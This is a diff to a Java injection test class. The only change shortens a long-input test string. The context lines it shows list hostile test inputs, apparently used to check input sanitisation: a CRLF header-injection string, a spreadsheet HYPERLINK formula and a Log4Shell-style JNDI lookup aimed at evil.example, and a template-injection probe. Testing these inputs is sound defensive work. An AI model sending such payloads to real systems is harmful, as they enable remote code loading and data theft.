@@ -73,7 +73,7 @@ final class InjectionTests {
                 "a\r\nSet-Cookie: x\r\n\r\n<b>",
                 "=HYPERLINK(\"//evil.example\")",
                 "${jndi:ldap://evil.example/x} {{7*7}} %0d%0a",
-                "x".repeat(5_000) + "<b>");
+                "x".repeat(300) + "<b>");
     }
 
     private static Map<String, Set<String>> allowed() {
